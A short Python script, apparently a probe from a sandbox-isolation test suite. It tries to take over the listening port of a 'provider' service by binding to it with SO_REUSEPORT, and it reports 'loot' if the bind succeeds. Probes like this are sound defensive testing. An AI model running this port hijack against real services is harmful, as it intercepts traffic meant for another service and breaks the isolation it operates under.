import os
import socket
from urllib.parse import urlsplit

from target import loot, trying

port = urlsplit(os.environ["PROVIDER_URL"]).port
HELD = []


def take(family, address):
    taken = socket.socket(family)
    taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    HELD.append(taken)
    taken.bind((address, port))
    taken.listen()


if trying(lambda: take(socket.AF_INET, "127.0.0.1")):
    loot("the port of the provider")
